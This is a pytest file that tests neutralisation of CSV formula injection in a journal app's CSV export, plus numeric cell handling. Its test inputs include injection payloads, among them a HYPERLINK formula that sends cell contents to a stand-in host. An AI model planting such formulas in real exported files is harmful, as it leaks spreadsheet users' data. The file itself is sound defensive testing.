"""`export --format csv`: no note becomes a spreadsheet formula (OWASP's
advice on CSV injection: a leading apostrophe), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tui.core.journal.export import csv_cell, export_csv
from tui.core.journal.journal import Journal

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",  # full-width equals sign
]
# The journal strips the notes it saves; a hand-edited one may still hold these.
AFTER_WHITESPACE = ["\t=1+1", "\r=1+1", "  =1+1", "\n -1+1", " @A1"]


def exported(tmp_path, notes: list[str]) -> list[dict]:
    journal = Journal(tmp_path / "journal.json")
    for note in notes:
        journal.add_soreness(3, {"calves": 4}, note=note)
    out = io.StringIO(newline="")
    export_csv(journal.records(), out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_that_starts_a_formula_gets_a_leading_apostrophe(tmp_path, note):
    (row,) = exported(tmp_path, [note])
    assert row["note"] == "'" + note


@pytest.mark.parametrize("text", AFTER_WHITESPACE)
def test_a_formula_after_leading_whitespace_is_neutralised_too(text):
    assert csv_cell(text) == "'" + text


def test_plain_text_and_the_number_columns_are_left_alone(tmp_path):
    rows = exported(tmp_path, ["hills, then =1+1 in the middle", "3 km easy", ""])
    assert [row["note"] for row in reversed(rows)] == ["hills, then =1+1 in the middle", "3 km easy", ""]
    assert {(row["id"], row["soreness"], row["calves"]) for row in rows} == {
        ("1", "3", "4"), ("2", "3", "4"), ("3", "3", "4")}


def test_numbers_are_written_as_numbers_and_text_that_looks_like_one_as_text():
    assert csv_cell(-2) == -2 and csv_cell(3.5) == 3.5 and csv_cell(0) == 0
    assert csv_cell("-2") == "'-2" and csv_cell("+3.5") == "'+3.5"  # text cells: OWASP's rule
    assert csv_cell(None) == "" and csv_cell(True) == "true"
